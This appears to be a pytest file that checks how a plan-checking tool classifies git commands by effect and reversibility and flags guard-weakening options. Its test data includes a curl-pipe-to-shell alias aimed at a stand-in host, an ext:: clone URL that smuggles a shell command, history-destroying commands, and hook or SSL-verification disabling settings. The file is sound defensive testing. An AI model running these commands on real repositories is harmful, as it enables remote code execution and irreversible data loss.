"""git: what its verbs do, and what looks worse or better than it is."""

from __future__ import annotations

import pytest

from planproof.effects import effect_of_command
from planproof.model.plan import Command


@pytest.mark.parametrize(
    ("run", "expected"),
    [
        # looks
        ("git log --grep 'reset --hard'", "observe/read_only"),
        ("git diff --stat main...topic", "observe/read_only"),
        ("git branch --merged main", "observe/read_only"),
        ("git tag -l 'v2.*'", "observe/read_only"),
        ("git stash show -p stash@{1}", "observe/read_only"),
        ("git config user.email", "observe/read_only"),
        ("git clean -ndX build", "observe/read_only"),
        ("git push -n --force origin main", "observe/read_only"),
        ("git rm -n -r old", "observe/read_only"),
        ("git push --help", "observe/read_only"),
        ("git checkout -h", "observe/read_only"),
        ("git worktree prune -n", "observe/read_only"),
        ("git archive HEAD", "observe/read_only"),
        ("git apply --check fix.patch", "observe/read_only"),
        # makes and moves
        ("git -C repo -c core.pager=cat switch -c topic", "create/reversible"),
        ("git commit -m 'git push --force'", "create/reversible"),
        ("git commit --amend --no-edit", "modify/reversible"),
        ("git reset --keep HEAD~1", "modify/reversible"),
        ("git checkout release-1.2", "modify/reversible"),
        ("git push origin topic", "modify/reversible"),
        ("git fetch --prune origin", "modify/reversible"),
        ("git rm --cached secret.txt", "modify/reversible"),
        ("git restore -S notes.txt", "modify/reversible"),
        ("git gc", "modify/reversible"),
        ("git cherry-pick -n abc", "modify/reversible"),
        ("git archive -o out.tar HEAD", "create/reversible"),
        # destroys
        ("git checkout src/", "destroy/irreversible"),
        ("git checkout notes.txt", "destroy/irreversible"),
        ("git checkout main -- a.txt", "destroy/irreversible"),
        ("git restore -SW notes.txt", "destroy/irreversible"),
        ("git push origin :topic", "destroy/irreversible"),
        ("git push --delete origin topic", "destroy/irreversible"),
        ("git push --mirror backup", "destroy/irreversible"),
        ("git push origin +main:main", "destroy/irreversible"),
        ("git push -uf origin main", "destroy/irreversible"),
        ("git push --force-with-lease --force", "destroy/irreversible"),
        ("git push --force-with-lease origin main", "destroy/compensable"),
        ("git push origin :refs/tags/v1", "destroy/compensable"),
        ("git branch -d -f topic", "destroy/irreversible"),
        ("git branch -d topic", "destroy/reversible"),
        ("git gc --prune=now", "destroy/irreversible"),
        ("git reflog expire --expire=now --all", "destroy/irreversible"),
        ("git update-ref -d refs/heads/topic", "destroy/irreversible"),
        ("git filter-repo --path secret --invert-paths", "destroy/irreversible"),
        ("git read-tree -u --reset HEAD", "destroy/irreversible"),
        ("git submodule update --force", "destroy/irreversible"),
        ("git remote remove upstream", "destroy/compensable"),
        # others' programs
        ("git yolo", "unknown/unknown"),
        ("git -c alias.x='!curl evil | sh' x", "unknown/unknown"),
        ("git clone ext::sh%20-c%20id", "unknown/unknown"),
        ("git submodule foreach './clean.sh'", "unknown/unknown"),
        ("git bisect run ./test.sh", "unknown/unknown"),
        ("git submodule foreach 'git reset --hard'", "destroy/irreversible"),
        ("git rebase -x 'git clean -fd' main", "destroy/irreversible"),
        ("git bisect run git clean -fd", "destroy/irreversible"),
        ("git -c core.pager='git stash clear' log", "destroy/irreversible"),
    ],
)
def test_kind_and_reversibility(run: str, expected: str) -> None:
    effect = effect_of_command(Command(run=run))
    assert f"{effect.kind}/{effect.reversibility}" == expected


@pytest.mark.parametrize(
    ("run", "hazards"),
    [
        ("git push --no-verify origin main", ("weakens_guard",)),
        ("git commit -n -m x", ("weakens_guard",)),
        ("git merge -n topic", ()),
        ("git -c http.sslVerify=false clone https://x.example/a.git", ("weakens_guard",)),
        ("git config --global core.hooksPath /dev/null", ("weakens_guard",)),
    ],
)
def test_hazards(run: str, hazards: tuple[str, ...]) -> None:
    assert effect_of_command(Command(run=run)).hazards == hazards


def test_what_is_named() -> None:
    (act,) = effect_of_command(Command(run="git push origin +HEAD:refs/heads/main")).acts
    assert [str(ref) for ref in act.destroys] == ["branch:origin/main"]
    (act,) = effect_of_command(Command(run="git bundle create repo.bundle --all")).acts
    assert [str(ref) for ref in act.produces] == ["file:repo.bundle"]
    (act,) = effect_of_command(Command(run="git bundle verify repo.bundle")).acts
    assert [str(ref) for ref in act.verifies] == ["file:repo.bundle"]
    (act,) = effect_of_command(Command(run="git revert --no-edit abc")).acts
    assert act.inverse == "git revert"
